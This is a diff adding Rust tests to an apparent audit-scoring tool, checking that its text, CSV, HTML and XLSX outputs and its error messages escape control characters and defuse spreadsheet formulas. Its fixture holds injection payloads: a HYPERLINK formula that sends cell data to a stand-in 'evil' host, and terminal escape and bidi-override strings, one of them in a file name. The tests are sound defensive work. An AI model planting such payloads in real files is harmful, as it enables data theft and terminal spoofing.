@@ -381,3 +381,114 @@ fn scores_agree_across_formats() {
         assert!(output.contains(&cut), "{format:?} shows {cut}");
     }
 }
+
+/// An audit whose author writes terminal escapes, bidi overrides, NUL, CR
+/// and spreadsheet formulas (TOML `\u` escapes).
+fn control_audit() -> String {
+    r#"[audit]
+organization = "\u202Eevil\u001B]0;title\u0007"
+service = "服务"
+assessors = ["张三"]
+date = 2026-03-15
+kind = "initial"
+unassessed = "conform"
+
+[indicators]
+"4.1.a" = { coefficient = 1, record = "\u001B[31m99.99 五星级\u001B[0m\r", note = "=HYPERLINK(\"http://evil/?\"&A1,\"x\")" }
+"4.1.b" = { coefficient = 1, record = "+1+1", note = "\u0000@SUM(1)" }
+
+[[special_deductions]]
+kind = "law"
+finding = "=1+1"
+"#
+    .to_string()
+}
+
+/// Whether text holds a character no output may carry raw.
+fn has_raw_control(text: &str) -> bool {
+    text.chars().any(|c| {
+        (c.is_control() && c != '\n')
+            || ('\u{202A}'..='\u{202E}').contains(&c)
+            || ('\u{2066}'..='\u{2069}').contains(&c)
+    })
+}
+
+#[test]
+fn control_characters_are_shown_not_obeyed_in_every_text_format() {
+    let source = control_audit();
+    for format in [Format::Table, Format::Markdown, Format::Csv, Format::Html] {
+        for lang in [Lang::Zh, Lang::En] {
+            let output = text(rendered(&source, format, options(lang)).0);
+            // CSV ends its records with CRLF, as RFC 4180 says.
+            let output = output.trim_start_matches('\u{feff}').replace("\r\n", "\n");
+            assert!(!has_raw_control(&output), "{format:?} {lang:?}:\n{output}");
+            // Shown as `\u{1b}` (Markdown escapes the backslash and `[`).
+            assert!(output.contains("u{1b}"), "{format:?}");
+            if format != Format::Csv {
+                // CSV has no header of the audit: no organization.
+                assert!(output.contains("u{202e}evil"), "{format:?}");
+            }
+        }
+    }
+}
+
+#[test]
+fn spreadsheet_cells_never_start_a_formula() {
+    let source = control_audit();
+    let csv_text = text(rendered(&source, Format::Csv, options(Lang::Zh)).0);
+    let mut reader = csv::Reader::from_reader(csv_text.trim_start_matches('\u{feff}').as_bytes());
+    let records: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
+    assert_eq!(&records[0][14], "'=HYPERLINK(\"http://evil/?\"&A1,\"x\")");
+    assert_eq!(&records[1][13], "'+1+1");
+    for record in &records {
+        for field in record {
+            assert!(!field.starts_with(['=', '+', '@', '\t', '\r']), "{field}");
+        }
+    }
+    let (xlsx, _, _) = rendered(&source, Format::Xlsx, options(Lang::Zh));
+    let mut workbook: Xlsx<_> = open_workbook_from_rs(Cursor::new(xlsx)).unwrap();
+    let range = workbook.worksheet_range("评分表").unwrap();
+    let texts: Vec<String> = range
+        .used_cells()
+        .filter_map(|(_, _, cell)| match cell {
+            Data::String(text) => Some(text.clone()),
+            _ => None,
+        })
+        .collect();
+    assert!(
+        texts.iter().any(|t| t.starts_with("'=HYPERLINK")),
+        "{texts:?}"
+    );
+    for text in &texts {
+        assert!(!text.starts_with(['=', '+', '@', '\t', '\r']), "{text}");
+    }
+}
+
+/// Error messages quote the file name and the offending line: both are
+/// shown with their control characters visible, and the caret still
+/// points at the problem.
+#[test]
+fn error_messages_show_control_characters_in_names_and_lines() {
+    let dir = tempfile::tempdir().unwrap();
+    let path = dir.path().join("evil\u{1b}[2J.toml");
+    std::fs::write(&path, "[audit]\n\"\u{1b}[31mkey\" = 1\n").unwrap();
+    let output = crate::common::bscore(&["validate", path.to_str().unwrap()]);
+    assert_eq!(output.status.code(), Some(2));
+    let message = String::from_utf8(output.stderr).unwrap();
+    assert!(!has_raw_control(&message), "{message}");
+    assert!(message.contains("evil\\u{1b}[2J.toml"), "{message}");
+    let line = message
+        .lines()
+        .find(|line| line.contains("\\u{1b}[31mkey\" = 1"))
+        .expect("the offending line is quoted");
+    let caret = message
+        .lines()
+        .skip_while(|l| *l != line)
+        .nth(1)
+        .expect("a caret line follows");
+    // A raw ESC is not allowed in a TOML string: the caret is under it,
+    // now shown as the six characters `\u{1b}`.
+    let escape_column = line.find('\\').unwrap();
+    assert_eq!(caret.find('^'), Some(escape_column), "{line}\n{caret}");
+    assert_eq!(caret.matches('^').count(), "\\u{1b}".len(), "{caret}");
+}
